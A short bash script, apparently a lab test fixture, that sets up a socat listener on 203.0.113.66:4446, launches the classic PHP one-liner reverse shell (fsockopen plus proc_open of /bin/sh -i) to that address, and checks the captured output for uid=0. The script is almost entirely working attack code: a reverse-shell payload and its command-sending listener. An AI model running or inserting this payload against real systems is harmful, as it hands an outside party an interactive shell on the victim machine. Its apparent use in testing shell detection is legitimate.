#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=php,dash far=out ready=out:4446 seconds=22 parts=dns
# PHP calls back and gives the connection to a shell as all it reads and writes, in one line as it stands in every list of such lines.
# shellcheck disable=SC2016 # PHP has its own variables
if [ "$1" = out ]; then (sleep 5; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
timeout 20 php -r '$sock=fsockopen("203.0.113.66",4446);$proc=proc_open("/bin/sh -i",array(0=>$sock,1=>$sock,2=>$sock),$pipes);proc_close($proc);'; grep -q uid=0 "$LAB/heard"
